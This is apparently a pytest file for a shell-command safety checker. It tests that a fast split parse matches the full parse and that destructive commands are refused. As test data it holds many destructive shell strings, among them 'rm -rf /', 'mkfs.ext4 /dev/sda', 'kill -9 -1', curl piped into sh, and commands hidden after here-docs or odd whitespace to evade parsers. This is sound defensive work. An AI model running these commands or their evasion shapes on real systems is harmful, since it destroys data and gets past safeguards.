"""The checker splits text at its top-level boundaries before parsing, runs plain commands
without a parse and walks a repeated statement once per state (``knm.core.shell.split``,
``knm.core.shellparse``). Those are shortcuts: whatever the text, the verdict is the one the
full walk of the whole parse gives, which these tests compare on the corpora and on generated
shell."""

from __future__ import annotations

import functools
import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.policy import LARGE, Case, destructive, everyday
from knm.core import policy, shellparse
from knm.core.policy import check_command, check_script
from knm.core.shell.split import (
    COMMAND_LIMITS,
    NO_LIMITS,
    Limits,
    ShellSyntaxError,
    TooComplex,
    split,
)
from knm.core.shellparse import MAX_ERROR_PARSE, _Env, _Walker, analyze


def _full_walk(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(policy, "analyze", functools.partial(analyze, split=False))


def _explicit(text: str) -> str:
    """``text`` with a ``;`` ending each statement that a newline ends: tree-sitter-bash joins
    some lines that bash keeps apart (``a | b | c <newline> d && e`` becomes ``c d``), which
    the splitter does not (see ``test_the_line_after_a_long_pipeline_is_a_command_of_its_own``);
    with the ends explicit, the parse of the whole text is the reference."""
    try:
        items = split(text)
        if items is None or _Walker().plan(text) is None:
            return text  # the split walk falls back to the whole text itself
    except (ShellSyntaxError, TooComplex):
        return text  # so it does for a syntax error (in text up to MAX_ERROR_PARSE)
    out = []
    last = 0
    for item in items:
        after = text[item.end :].lstrip(" \t")
        out.append(text[last : item.end])
        last = item.end
        if "<<" not in text[item.start : item.end] and after[:1] in ("", "\n", "#"):
            out.append(";")
    out.append(text[last:])
    return "".join(out)


def _signature(text: str, split_text: bool) -> tuple[list[object], list[object]]:
    analysis = analyze(text if split_text else _explicit(text), split=split_text)
    commands = [
        (c.program, c.text, c.written.strip(), c.cwd, c.stdin, c.asynchronous,
         tuple((op, t.alts) for op, t in c.redirects))
        for c in analysis.commands
    ]  # fmt: skip
    findings = [(f.rule, f.matched) for f in analysis.findings]
    return list(dict.fromkeys(commands)), list(dict.fromkeys(findings))


# --- the same verdicts as the full walk -------------------------------------------------------


def _misread_whole(text: str) -> bool:
    """A statement ends on its here-doc's line (``cat <<E; rm x``): tree-sitter-bash reads the
    rest of the line into the here-doc when it parses the whole, so the full walk is no
    reference there (``test_text_the_splitter_used_to_leave_to_the_parser_is_refused``), at
    the top level or in nested code (``eval '...'``)."""
    return _HEREDOC_THEN_STATEMENT.search(text) is not None


_HEREDOC_THEN_STATEMENT = re.compile(r"<<[^\n]*?(?<![;&])[;&](?![;&])")


def _corpora() -> list[Case]:
    cases = [c for cases in destructive().values() for c in cases] + everyday()
    return [c for c in cases if not _misread_whole(c.text)]


def test_every_corpus_command_gets_the_verdict_of_the_full_walk(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cases = _corpora()
    fast = [check_script(c.text, variables=c.variables, deferred=c.deferred) for c in cases]
    _full_walk(monkeypatch)
    full = [check_script(c.text, variables=c.variables, deferred=c.deferred) for c in cases]
    differ = [(c.text[:80], f, s) for c, f, s in zip(cases, fast, full, strict=True) if f != s]
    assert not differ


def test_every_corpus_command_runs_the_same_commands_as_in_the_full_walk() -> None:
    cases = _corpora()
    for case in cases:
        assert _signature(case.text, True) == _signature(case.text, False), case.text


_SHELLISH = ["rm", "-rf", "/", "$(", ")", "`", "'", '"', "${", "}", "{", "(", ";", "&", "|", "<",
             ">", "<<", "EOF", "\n", "$X", "$1", "sh", "-c", "eval", "f()", "f", "while", "true",
             "do", "done", "case", "in", "esac", "a)", ";;", "((", "))", "[[", "]]", "if", "then",
             "fi", "xargs", "find", "{}", "cd", "*", "x=", "x=/", "curl", "base64", "-d",
             "of=/dev/sda", "dd", "<(", "sudo", "&&", "||", "|&", "!", "time", "#", "2>&1",
             "> /dev/sda", "kill", "-9", "-1", "mkfs", "/dev/sda", "\\", " ", "for", "x",
             "function", "echo"]  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(tokens=st.lists(st.sampled_from(_SHELLISH), max_size=40))
def test_generated_shell_runs_the_same_commands_as_in_the_full_walk(tokens: list[str]) -> None:
    text = " ".join(tokens)
    if _misread_whole(text):
        return
    assert _signature(text, True) == _signature(text, False)


_STATEMENTS = ["ls -la /tmp", "echo hi", "cd /", "cd /tmp", "x=/", "x=/tmp/a", "rm -rf $x",
               "rm -rf *", "f() { rm -rf $1; }", "f /", "f /tmp/x", "cat x | sh",
               "echo rm -rf / > /tmp/s", "sh /tmp/s", "set -- /", "rm -rf $1", "kill -9 -1 &",
               "while true; do f & done", "echo 'a;b' | grep a && true || false",
               "cat <<EOF | sh\nrm -rf /\nEOF", "true && rm -rf /etc"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    statements=st.lists(st.sampled_from(_STATEMENTS), max_size=30),
    separators=st.lists(
        st.sampled_from(["\n", "; ", " & ", " && ", " | "]), min_size=30, max_size=30
    ),
)
def test_repeated_statements_in_changing_states_run_the_same_commands_as_in_the_full_walk(
    statements: list[str], separators: list[str]
) -> None:
    text = "".join(s + sep for s, sep in zip(statements, separators, strict=False))
    assert _signature(text, True) == _signature(text, False), text


#: Shapes tree-sitter-bash parses in quadratic time when it is given them whole.
_QUADRATIC = {"quoted words pipeline", "arithmetic commands"}


#: The 64 KiB shapes that hold more than ``COMMAND_LIMITS`` allow: refused, counted, unparsed.
_BEYOND_LIMITS = {
    "plain script", "pipes", "short statements", "distinct short statements", "one huge pipeline",
    "quoted words pipeline", "and-or chain", "nested to the limit", "here-doc into sh",
    "quoted expansions", "sh -c script", "many assignments", "many functions",
    "functions calling functions", "many words with $", "many redirections",
    "every limit at once", "here-docs before ;", "here-doc before ; then quoted pipeline",
}  # fmt: skip
#: Shapes tree-sitter-bash misreads whole: the rest of a here-doc's line goes into its body.
_MISREAD_WHOLE = {"here-doc before ; then rm"}
#: An error only tree-sitter-bash sees, found chunk by chunk: refused without the whole parse.
_CHUNK_ERROR = {
    "case arm with errors", "long [[ ]] with errors", "long if condition with errors",
    "long back-quote with errors",
}  # fmt: skip

#: Nested past ``split.MAX_OPEN``: refused as too deep, unparsed.
_TOO_DEEP = {"nested subshells", "nested groups", "nested $( )", "nested if"}


@pytest.mark.parametrize("name", sorted(LARGE))
def test_each_64_kib_shape_runs_the_same_commands_as_in_the_full_walk(name: str) -> None:
    text = LARGE[name]
    if name in _BEYOND_LIMITS | _TOO_DEEP:
        pytest.skip("refused before the parse (test_a_64_kib_shape_beyond_the_limits_...)")
    if _split(text) is None and _syntax_error(text):
        # Bash refuses the text; past MAX_ERROR_PARSE the split walk refuses it unparsed
        # (``arithmetic commands``, ``fork-bomb shape``: the parse of the whole takes seconds).
        assert [f.rule for f in analyze(text).findings] == ["too-complex"]
        return
    if name in _QUADRATIC:
        pytest.skip("the parse of the whole of this shape takes seconds")
    if name in _MISREAD_WHOLE:
        assert {c.program for c in analyze(text).commands} == {"cat", "rm"}
        return
    if name in _CHUNK_ERROR:
        (finding,) = analyze(text).findings
        assert "a statement the parser finds a syntax error in" in finding.matched
        return
    assert _signature(text, True) == _signature(text, False)


# --- what the shortcuts must not hide ---------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "echo a | cat | echo\nrm -rf / && true",
        "ps aux | grep x | awk '{print $2}' # pids\n\nmkfs.ext4 /dev/sda || true",
        "X=1 Y=2\nrm -rf /etc",
    ],
)
def test_the_line_after_a_long_pipeline_is_a_command_of_its_own(text: str) -> None:
    # tree-sitter-bash parses the whole text as ``echo rm -rf / && true`` inside the pipeline
    # (the walk of the whole parse let the first one through); bash runs ``rm -rf /``.
    assert check_command(text)


def test_a_statement_met_again_after_the_state_changed_is_walked_again() -> None:
    assert check_command("x=/tmp/a; rm -rf $x; x=/; rm -rf $x")
    assert check_command("cd /tmp; rm -rf *; cd /; rm -rf *")
    assert check_command("f() { rm -rf $1; }; f /tmp/a; f /tmp/a; f /")


@pytest.mark.parametrize("name", sorted(LARGE))
def test_a_destructive_command_anywhere_in_a_64_kib_shape_is_refused(name: str) -> None:
    text = LARGE[name]
    items = _split(text) or []
    starts = [0, *random.Random(name).sample([i.start for i in items], min(2, len(items)))]
    for start in starts:  # where a statement starts: before it, or after all of it
        for candidate in (
            text[:start] + "rm -rf /etc\n" + text[start:],
            text[:start] + "rm -rf /etc; " + text[start:],
        ):
            found = {v.rule for v in check_script(candidate)}  # a few bytes over 64 KiB
            assert found & {"system-paths", "nesting-too-deep", "too-complex"}, (name, start)
    tail = text + "\nrm -rf /etc\n"
    if _split(tail) is not None and not text.endswith("\\"):
        # the text ends a statement there (not inside a here-doc, nor before ``\`` newline)
        assert {v.rule for v in check_script(tail)} & {"system-paths", "too-complex"}, name


def test_a_repeated_dangerous_statement_is_reported_once_per_distinct_violation() -> None:
    violations = check_command("rm -rf /etc\n" * 1000)
    assert [v.rule for v in violations] == ["system-paths"]


# --- the splitter -----------------------------------------------------------------------------


def _syntax_error(text: str) -> bool:
    try:
        split(text)
    except ShellSyntaxError:
        return len(text) > MAX_ERROR_PARSE
    except TooComplex:
        return False
    return False


def _split(text: str) -> list[object] | None:
    try:
        return split(text)  # type: ignore[return-value]
    except (ShellSyntaxError, TooComplex):
        return None


def _pieces(text: str) -> list[list[list[str]]] | None:
    items = split(text)
    if items is None:
        return None
    return [[[text[s:e] for s, e in p.stages] for p in item.pipelines] for item in items]


@pytest.mark.parametrize(
    ("text", "pieces"),
    [
        ("a; b & c", [[["a"]], [["b"]], [["c"]]]),
        ("a | b && c || d | e", [[["a", "b"], ["c"], ["d", "e"]]]),
        ("if a; then b; fi; c", [[["if a; then b; fi"]], [["c"]]]),
        ("while true; do f & done; g", [[["while true; do f & done"]], [["g"]]]),
        ("case x in a) b;; c|d) e;; esac; f", [[["case x in a) b;; c|d) e;; esac"]], [["f"]]]),
        ("echo \"$(a; b)\" 'c;d' $'e;f'; g", [[["echo \"$(a; b)\" 'c;d' $'e;f'"]], [["g"]]]),
        ("f() { a; }; function g { b; }", [[["f() { a; }"]], [["function g { b; }"]]]),
        ("[[ a && b ]] && c", [[["[[ a && b ]]"], ["c"]]]),
        ("a # b; c\nd", [[["a"]], [["d"]]]),
        ("a |\n b", [[["a", "b"]]]),
        ("x=$(( 1 + (2) )); y", [[["x=$(( 1 + (2) ))"]], [["y"]]]),
    ],
)
def test_the_splitter_cuts_where_bash_ends_a_statement_or_a_stage(
    text: str, pieces: list[list[list[str]]]
) -> None:
    assert _pieces(text) == pieces


def test_a_statement_with_a_top_level_redirection_or_here_doc_is_left_whole() -> None:
    items = split("a > x | b; cat <<E | sh\nrm\nE\nls")
    assert items is not None
    assert [item.whole for item in items] == [True, True, False]


@pytest.mark.parametrize(
    ("text", "sources"),
    [
        ("cat <<E; echo\nx\nE", ["cat <<E\nx\nE", "echo"]),
        ("cat <<E & echo\nx\nE\n", ["cat <<E\nx\nE", "echo"]),
        (
            "cat <<A; cat <<B & rm y\na\nA\nb\nB\nls",
            ["cat <<A\na\nA", "cat <<B\nb\nB", "rm y", "ls"],
        ),
        ("cat <<A | sh; cat <<B\na\nA\nb\nB\nls", ["cat <<A | sh\na\nA", "cat <<B\nb\nB", "ls"]),
        ("cat <<E; cat <<E; \na\nE\nb\nE", ["cat <<E\na\nE", "cat <<E\nb\nE"]),
        (
            "cat <<E; { echo a; } & echo $(date; id)\nb\nE",
            ["cat <<E\nb\nE", "{ echo a; }", "echo $(date; id)"],
        ),
    ],
)
def test_a_statement_ended_on_its_here_docs_line_is_parsed_with_their_bodies(
    text: str, sources: list[str]
) -> None:
    items = split(text)
    assert items is not None
    assert [item.source(text) for item in items] == sources
    assert [item.count for item in items] == [1] * len(sources)
    # tree-sitter-bash misreads such text whole (the rest of the line goes into the here-doc)
    programs = {s.split()[0] for s in sources if s[0].isalpha()}
    assert programs <= {c.program for c in analyze(text).commands}


@pytest.mark.parametrize(
    "text",
    [
        "cat <<E; rm -rf /etc\nbody\nE",
        "cat <<E & rm -rf /etc\nbody\nE\n",
        "cat <<E; echo\nrm -rf /etc\nE\n",  # a body is data: only the statement after it runs
        "sh <<E; echo\nrm -rf /etc\nE\n",
        "cat <<A; sh <<B\nx\nA\nrm -rf /etc\nB\n",
        "echo a\v# b; rm -rf /etc",
        "echo a\f# b; rm -rf /etc",
        "echo a\xa0# b; rm -rf /etc",
        "{ echo a\v# b; rm -rf /etc; }",
        "rm -rf /etc \\",
        "rm -rf /etc\necho 'a",
    ],
)
def test_text_the_splitter_used_to_leave_to_the_parser_is_refused(text: str) -> None:
    rules = {v.rule for v in check_command(text)}
    if text.startswith("cat <<E; echo\n"):
        assert rules == set()
        return
    assert rules == {"system-paths"}
    long = text.replace("rm -rf /etc", "ls " + "a " * 1000 + "; rm -rf /etc", 1)
    assert {v.rule for v in check_command(long)} in ({"system-paths"}, {"too-complex"})


# --- syntax errors ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("((1)) ((1))", "'(('"),
        ("echo a ((1))", "'(('"),
        ("a |", "ends"),
        ("a &&\n", "ends"),
        ('echo "open', 'ends inside "'),
        ("echo $(ls", "ends inside $("),
        ("if a; then b", "ends"),
        ("a; ; b", "operator"),
        ("& a", "operator"),
        ("a ;; b", "';;'"),
        ("a )", "')'"),
        ("fi", "'fi'"),
        ("then a", "'then'"),
        ("f() f()", "function's body"),
        ("f() ls", "function's body"),
        ("f() ;", "function's body"),
        ("echo (a)", "not closed at once"),
        ("[ ( a ) ]", "not closed at once"),
        ("echo a (b)", "'(' where no command"),
    ],
)
def test_the_splitter_names_syntax_errors_bash_refuses(text: str, what: str) -> None:
    with pytest.raises(ShellSyntaxError, match=re.escape(what)):
        split(text)


@pytest.mark.parametrize(
    "text",
    [
        "for ((i = 0; i < 3; i++)); do echo $i; done",
        "if ((x > 1)); then echo; fi",
        "while ((1)); do break; done",
        "x=1; ((x++)) && echo $((x * 2)) || ((y = 2))",
        "[[ a ]] && ((1))",
        "case $x in a) ((n++));; esac",
        "time ((1)); ! ((0))",
        "f () { a; }; g() ( b ); h()\n# body\n{ c; }; k() if a; then b; fi",
        "function f () { :; }; x=( a b ); declare -a y=(1 2); ls @(a|b) *.+(c|h)",
        "[[ ( a ) ]] && (b) | (c); time (d); ! (e); coproc (f)",
        "case x in (a) b;; esac; echo $(f() { :; }; f)",
    ],
)
def test_parentheses_where_bash_takes_them_are_no_syntax_error(text: str) -> None:
    assert split(text) is not None


_ARITH = "((1)) " * 10000


@pytest.mark.parametrize(
    "text", [_ARITH, "ls\n" + _ARITH.replace(" ", "\n", 5), "echo a " + _ARITH]
)
def test_a_long_text_with_a_misplaced_arithmetic_command_is_refused_unparsed(text: str) -> None:
    # tree-sitter-bash needs seconds for this text (quadratic error recovery); bash refuses it.
    violations = check_command(text)
    assert [v.rule for v in violations] == ["too-complex"]
    assert "syntax error" in violations[0].matched


@pytest.mark.parametrize(
    "text",
    [
        ") " + '"a"|' * 16000,  # each of these took tree-sitter-bash 8-13 s whole
        '"a"|' * 1000 + ")",  # (1,000 stages: under the limit of commands)
        ";; " + '"a"|' * 16000,
        '"a"|' * 1000 + ";;",
        "\n esac )) " * 6000,
        "&& ]] " * 10000,
        "[[ 1 ]]; f(){ " + "f" * 65000,
        "f() " * 16000,  # these took tree-sitter-bash seconds whole
        "echo (a) " * 7000,
    ],
)
def test_a_long_text_with_a_syntax_error_bash_refuses_is_refused_unparsed(text: str) -> None:
    violations = check_command(text)
    assert [v.rule for v in violations] == ["too-complex"]
    assert "syntax error" in violations[0].matched


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /etc\n" + _ARITH,
        _ARITH + "\nrm -rf /etc",
        "mkfs.ext4 /dev/sda; " + _ARITH,
        "x=/; " + _ARITH.replace("((1)) ", "((1)) rm -rf $x ", 1),
        "a |\n" * 2000 + "rm -rf /etc |",
    ],
)
def test_a_destructive_command_in_a_long_text_with_a_syntax_error_is_refused(text: str) -> None:
    assert check_command(text)


@pytest.mark.parametrize("text", ["((1)) ((1))", "ls; ((1)) ((1))\nrm -rf /etc", "a |"])
def test_a_short_text_with_a_syntax_error_gets_the_verdict_of_the_full_walk(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert len(text) <= MAX_ERROR_PARSE
    fast = check_command(text)
    _full_walk(monkeypatch)
    assert fast == check_command(text)


# --- plain commands recorded without the walk's layers ----------------------------------------

_DISTINCT = "".join(f"job{i} --run {i}\n" for i in range(1500))  # under the limit of 2,000


@pytest.mark.parametrize(
    "text",
    [
        "cleanup() { rm -rf /etc; }\n" + _DISTINCT + "cleanup now",
        _DISTINCT + "ls() { rm -rf /usr; }; ls -la",
        _DISTINCT + "sudo rm -rf /var",
        _DISTINCT + "curl -s https://x.example | job1 --run 1 | sh",
        _DISTINCT + "cd /; job2 --run 2; rm -rf *",
    ],
)
def test_a_destructive_command_among_many_distinct_plain_ones_is_refused(text: str) -> None:
    assert check_command(text)


def test_many_distinct_plain_commands_run_the_same_commands_as_in_the_full_walk() -> None:
    text = _DISTINCT.replace("\n", " &\n", 50) + "cat /etc/hosts | job3 --run 3 && job4\n"
    assert _signature(text, True) == _signature(text, False)


# --- limits: text far beyond anything written by hand is refused before the parse -------------

#: The verdict of each 64 KiB shape (``bench.policy.LARGE``).
_VERDICTS = {
    "plain script": {"too-complex"},
    "fork-bomb shape": {"too-complex"},
    "nested subshells": {"nesting-too-deep"},
    "one long word list": set(),
    "pipes": {"too-complex"},
    "short statements": {"too-complex"},
    "distinct short statements": {"too-complex"},
    "one huge pipeline": {"too-complex"},
    "quoted words pipeline": {"too-complex"},
    "and-or chain": {"too-complex"},
    "nested groups": {"nesting-too-deep"},
    "nested $( )": {"nesting-too-deep"},
    "nested if": {"nesting-too-deep"},
    "nested to the limit": {"too-complex"},
    "long here-doc": set(),
    "here-doc into sh": {"too-complex"},
    "long quoted string": set(),
    "quoted expansions": {"too-complex"},
    "sh -c script": {"too-complex"},
    "many assignments": {"too-complex"},
    "many functions": {"too-complex"},
    "functions calling functions": {"too-complex"},
    "many words with $": {"too-complex"},
    "many redirections": {"too-complex"},
    "arithmetic commands": {"too-complex"},
    "every limit at once": {"too-complex"},
    "under the budget": set(),
    "here-docs before ;": {"too-complex"},
    "here-doc before ; then quoted pipeline": {"too-complex"},
    "here-doc before ; then rm": {"system-paths"},
    "vertical tab in words": {"system-paths"},
    "case arm with errors": {"too-complex"},
    "trailing backslash": set(),
    "unclosed quote": {"too-complex"},
    "long [[ ]] with errors": {"too-complex"},
    "long if condition with errors": {"too-complex"},
    "long back-quote with errors": {"too-complex"},
}


def test_every_64_kib_shape_has_an_expected_verdict() -> None:
    assert set(_VERDICTS) == set(LARGE)


@pytest.mark.parametrize("name", sorted(LARGE))
def test_each_64_kib_shape_gets_its_verdict(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # The verdicts come from the counts. Untimed: the parse-time backstop, tested with a fake
    # clock in test_shellparse.py, measures the thread's CPU, which a busy machine inflates;
    # what each shape costs is bench/policy.py's to measure.
    monkeypatch.setattr(shellparse, "CLOCK", lambda: 0.0)
    assert {v.rule for v in check_command(LARGE[name])} == _VERDICTS[name]


@pytest.mark.parametrize("name", sorted(_BEYOND_LIMITS | _TOO_DEEP))
def test_a_64_kib_shape_beyond_the_limits_is_refused_with_the_limit_and_what_to_do(
    name: str,
) -> None:
    (violation,) = check_command(LARGE[name])
    assert violation.matched.startswith("more than ")
    if name in _TOO_DEEP:
        assert "open at once" in violation.matched
    else:
        assert "in one command, too many to check: split it into smaller commands" in (
            violation.matched
        )


def _commands(n: int) -> str:
    return "".join(f"job{i} --run\n" for i in range(n))


@pytest.mark.parametrize(
    ("text", "what"),
    [
        (_commands(COMMAND_LIMITS.commands + 1), "2,000 commands (statements and pipeline"),
        (
            "".join(f"echo a{i} > /tmp/{i}\n" for i in range(290)) + _commands(1700),
            "4,500 units of work",
        ),
        ("a | " * COMMAND_LIMITS.commands + "b", "2,000 commands"),
        ("if true; then " + "ls; " * COMMAND_LIMITS.commands + "fi", "2,000 commands"),
        ("".join(f"echo a{i} > /tmp/{i}\n" for i in range(301)), "300 distinct statements"),
        ("".join(f"f{i}() {{ :; }}\n" for i in range(101)), "100 function definitions"),
        ("echo " + "$x " * (COMMAND_LIMITS.expansions + 1), "4,000 words and word parts"),
        ("echo " + "'a' " * (COMMAND_LIMITS.expansions + 1), "4,000 words and word parts"),
        ("echo " + "]" * (COMMAND_LIMITS.expansions + 1), "4,000 words and word parts"),
        ("echo " + "> /tmp/x " * (COMMAND_LIMITS.expansions // 2 + 1), "4,000 words and word"),
        ("sh -c '" + "ls\n" * COMMAND_LIMITS.commands + "'", "2,000 commands"),
    ],
)
def test_text_past_a_limit_is_refused_naming_the_limit(text: str, what: str) -> None:
    (violation,) = check_command(text)
    assert violation.rule == "too-complex"
    assert f"more than {what}" in violation.matched


@pytest.mark.parametrize(
    "text",
    [
        _commands(COMMAND_LIMITS.commands - 10),
        "".join(f"echo a{i} > /tmp/{i}\n" for i in range(290)),
        "".join(f"f{i}() {{ :; }}\n" for i in range(95)),
        "echo " + "$x " * (COMMAND_LIMITS.expansions // 2 - 100),  # '$' and 'x': two tokens
        "echo " + "'a' " * (COMMAND_LIMITS.expansions - 100),
    ],
)
def test_text_under_the_limits_is_walked_to_its_end(text: str) -> None:
    assert check_command(text) == []
    assert {v.rule for v in check_command(text + "\nrm -rf /etc\n")} == {"system-paths"}
    assert {v.rule for v in check_command("rm -rf /etc\n" + text)} == {"system-paths"}


def test_a_script_may_hold_more_than_a_command() -> None:
    # Stored scripts (up to 1 MiB) have limits 16 times as high: the message says so.
    text = LARGE["distinct short statements"]
    assert check_script(text) == []
    assert {v.rule for v in check_script(text + "\nrm -rf /etc")} == {"system-paths"}
    (violation,) = check_script(_commands(COMMAND_LIMITS.commands * 16 + 1))
    assert "in one script, too many to check: split it into smaller scripts" in violation.matched


def _counts(text: str, **variables: str) -> dict[str, int]:
    walker = _Walker(True, Limits(*(10**9,) * 5))
    analysis_env = _Env()
    for name, value in variables.items():
        analysis_env.vars[name] = (value,)
    walker.run_code(text.replace("\r\n", "\n"), analysis_env, depth=0)
    c = walker.counts
    return {"commands": c.commands, "parses": c.parses, "functions": c.functions,
            "expansions": c.expansions, "budget": c.units}  # fmt: skip


def test_the_limits_sit_far_above_every_everyday_command_and_builtin() -> None:
    # The largest counts (builtin scripts): 62 commands, 18 parsed statements, 2 functions,
    # 258 words and parts (redirections included), 397 units; each limit is 11-50 times the
    # largest.
    largest = {"commands": 0, "parses": 0, "functions": 0, "expansions": 0, "budget": 0}
    for case in everyday():
        for key, value in _counts(case.text, **case.variables).items():
            largest[key] = max(largest[key], value)
    for key, value in largest.items():
        assert value * 10 <= getattr(COMMAND_LIMITS, key), (key, value)


# --- the parser's quadratic error recovery ------------------------------------------------------


def _fill(unit: str, size: int = 65536) -> str:
    return (unit * (size // len(unit) + 1))[:size]


@pytest.mark.parametrize(
    "text",
    [
        _fill("'a' f() "),  # '(' glued to an argument
        _fill("echo f(x) "),
        _fill("a << | b "),  # '<<' with no delimiter
        _fill("x << |"),
        _fill("cat <<;"),
        _fill("<"),  # a redirection with no target
        _fill("echo > ; "),
        _fill("a >\n"),
        _fill("]] a=(\n"),  # ']]' closing nothing
        _fill("<< \\ $((1)) = "),  # a here-doc delimiter tree-sitter-bash reads otherwise
        _fill("\n << `a` \n\n"),
        "cat <<EOF\n" + "line\n" * 3000,  # a here-doc never ended
        "echo $((" + "1+" * 3000,  # the text ends inside '(('
    ],
)
def test_a_long_text_with_an_error_tree_sitter_recovers_from_slowly_is_refused_unparsed(
    text: str,
) -> None:
    (violation,) = check_command(text)
    assert violation.rule == "too-complex"
    assert "syntax error" in violation.matched


@pytest.mark.parametrize("unit", ["@(a) ", "x=1 @(a) ", "a @(a) * ", "@(a) $((1)) "])
@pytest.mark.parametrize(
    "around", ["echo {}", "if true; then echo {}; fi", "{{ echo {}; }}", "echo $(echo {})",
               "for x in a; do (echo {}); done", "ls; echo {} | cat"],
)  # fmt: skip
def test_a_long_command_the_parser_finds_an_error_in_is_refused_after_a_parse_in_chunks(
    unit: str, around: str
) -> None:
    # The lexer follows these; tree-sitter-bash finds an error. Parsed in chunks of about
    # 512 bytes between whole arguments (each in linear time, at any depth), the error is
    # found without the quadratic parse of the whole.
    text = around.format(unit * (2000 // len(unit)))
    (violation,) = check_command(text)
    assert violation.rule == "too-complex"
    assert "a statement the parser finds a syntax error in" in violation.matched
    assert check_command("rm -rf /etc; " + text)  # refused, whatever else it holds


@pytest.fixture
def parsed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every text the check gives the parser, in order. Parsed untimed: these tests are about
    what is parsed, and the parse-time backstop (50 ms of the thread's CPU, which a busy
    machine inflates) would otherwise now and then refuse their texts as too slow instead."""
    texts: list[str] = []
    parse = shellparse._parse
    monkeypatch.setattr(shellparse, "_parse", lambda t, *rest: texts.append(t) or parse(t, *rest))
    monkeypatch.setattr(shellparse, "CLOCK", lambda: 0.0)
    return texts


@pytest.mark.parametrize(
    "text",
    [
        "f() { " + "echo @(a); " * 300 + "}; f",
        "f() {\n" + "  echo @(a)\n" * 300 + "}\nf\n",
        "if true; then " + "echo @(a); " * 300 + "fi",
        "while true; do " + "echo @(a) | cat; " * 300 + "done",
        "case x in a) " + "echo @(a); " * 300 + ";; esac",
        "case x in a) echo " + "@(a) " * 300 + ";; esac",
        "( " + "echo @(a); " * 300 + ")",
        "x=$(" + "echo @(a)\n" * 300 + ")",
        "diff <(" + "echo @(a); " * 300 + ") /dev/null",
    ],
)
def test_an_error_in_a_long_body_or_case_arm_is_found_chunk_by_chunk(
    text: str, parsed: list[str]
) -> None:
    # Runs of statements in bodies and a case arm's commands are cut into chunks that parse
    # alone: the error is found in one, and the whole (the quadratic parse) is never parsed.
    (violation,) = check_command(text)
    assert "a statement the parser finds a syntax error in" in violation.matched
    assert max(map(len, parsed)) < MAX_ERROR_PARSE


@pytest.mark.parametrize(
    "text",
    [
        "[[ " + ("-n " + "a" * 40 + " && @(a) && ") * 100 + "-n b ]]",
        "[[ -n a ]] && [[ " + ("@(a) || -f " + "a" * 40 + " || ") * 100 + "-n b ]] && ls",
        "if [[ -n a && " + "@(a) && " * 200 + "-n b ]]; then :; fi",
        "if " + ("echo " + "a" * 40 + " @(a); ") * 100 + "true; then :; fi",
        "if false; then :; elif " + "echo @(a)\n" * 200 + "then :; fi",
        "while " + ("echo " + "a" * 40 + " @(a) | cat; ") * 100 + "false; do :; done",
        "until " + "echo @(a); " * 200 + "true; do :; done",
        "echo `" + ("echo " + "a" * 40 + " @(a); ") * 100 + "`",
        'x="`' + "echo @(a)\n" * 200 + '`"',
    ],
)
def test_an_error_in_a_long_test_condition_or_back_quote_is_found_parsing_one_chunk(
    text: str, parsed: list[str]
) -> None:
    # Terms of a ``[[ ]]`` are cut at ``&&``/``||``, conditions and back-quoted bodies at the
    # ends of their statements; every chunk holds the error, and the shortest is parsed first.
    (violation,) = check_command(text)
    assert "a statement the parser finds a syntax error in" in violation.matched
    (chunk,) = [t for t in parsed if "@(a)" in t]  # what else is parsed holds no error
    assert max(map(len, parsed)) == len(chunk) < MAX_ERROR_PARSE


@pytest.mark.parametrize(
    "text",
    [
        "f() { " + "echo a; " * 300 + "}; f; rm -rf /etc",
        "case x in a) " + "echo a\n" * 300 + ";; b) rm -rf /etc;; esac",
        "x=$(" + "echo a; " * 300 + "); ( " + "ls; " * 300 + "); a=(" + "x\n" * 600 + ")\n"
        "rm -rf /etc",
        "if true; then " + "cat <<E | wc -l\nx\nE\necho a; " * 100 + "rm -rf /etc; fi",
        "[[ "
        + " && ".join(["-n $a", "-f /tmp/x", "$x == y*", "! -d /b", "( a < b )"] * 60)
        + " ]] && rm -rf /etc",
        "if [[ -n $a ]] && " + "test -f /tmp/x; " * 100 + "then rm -rf /etc; fi",
        "while " + "read -r a\n" * 150 + "do rm -rf /etc; done",
        "echo `" + 'echo "$(date)" \\`uname\\`; ' * 60 + "`; rm -rf /etc",
        'x="`' + "echo a 'b' \\$c\n" * 100 + '`"; rm -rf /etc',
    ],
)
def test_a_long_valid_body_is_checked_not_refused_by_the_chunk_parse(text: str) -> None:
    assert {v.rule for v in check_command(text)} == {"system-paths"}


@pytest.mark.parametrize(
    "text",
    [
        "if true; then cat <<E; rm -rf /etc\nx\nE\nfi",
        "{ cat <<E & rm -rf /etc\nx\nE\n}",
        "echo $(cat <<E; rm -rf /etc\nx\nE\n)",
        "cat <<A; cat <<B |\nx\nA\nrm -rf /etc\nB\nsh\n",
    ],
)
def test_a_here_doc_before_a_statement_inside_a_body_is_refused(text: str) -> None:
    # tree-sitter-bash reads ``rm`` into the here-doc (the text would be allowed): refused,
    # saying how to write it instead; a site that allows too-complex has it walked whole.
    (violation,) = check_command(text)
    assert violation.rule == "too-complex"
    assert "put that statement on a line of its own" in violation.matched
    walked = analyze(text, limits=NO_LIMITS)
    assert walked.commands
    assert all(f.rule != "too-complex" for f in walked.findings)


_ARGS = "".join(f"--opt{i}=v{i} 'q {i}' \"$x{i}\" ${{y{i}:-d}} $(echo {i}) " for i in range(100))


@pytest.mark.parametrize(
    "text",
    [
        "echo " + _ARGS,
        "if true; then echo " + _ARGS + "; fi",
        "while read -r l; do printf '%s' " + _ARGS + "; done < /etc/hosts",
        "{ echo " + _ARGS + "; } > /tmp/out",
        "x=$(echo " + _ARGS + ")",
        "local a=(" + _ARGS + ") 2>/dev/null",
        "case $1 in a) echo " + _ARGS + ";; esac",
        "[[ -n $x ]] && echo " + _ARGS + " | cat",
        "cat <<EOF | sh\necho "
        + " ".join(f"--opt{i}=v{i} 'q {i}'" for i in range(300))
        + "\nEOF\n",
        "f() { echo " + _ARGS + "; }; f",
    ],
)
